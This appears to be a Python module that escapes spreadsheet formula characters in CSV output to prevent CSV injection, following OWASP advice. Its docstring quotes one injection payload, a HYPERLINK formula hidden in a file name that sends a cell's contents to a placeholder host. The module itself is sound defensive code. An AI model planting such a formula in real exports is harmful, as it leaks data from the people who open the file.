"""Text cells that a spreadsheet would evaluate as a formula, escaped as OWASP's CSV-injection advice says.

Not run directly; `infer --format csv|json` and `evaluate --format json` pass every text cell through
`cell()`. A file named `=HYPERLINK("http://x/"&A1,"open").png` would otherwise become a live formula when the
CSV is opened in Excel or LibreOffice. A cell starting with = + - @ TAB or CR - or holding one right after a
separator (`;`, `,`, TAB, `|`: a spreadsheet importing with another separator splits there) - gets a `'`
before that character, which spreadsheets show as text. Strip a `'` that precedes one of those characters to
get the original name back.
"""
from __future__ import annotations

import re

FORMULA_START = "=+-@\t\r"
_RISKY = re.compile(r"(^|[;,\t|])([=+\-@\t\r])")


def cell(text: str | None) -> str | None:
    """`text` made inert for spreadsheets (None stays None)."""
    if not text:
        return text
    return _RISKY.sub(r"\1'\2", text)
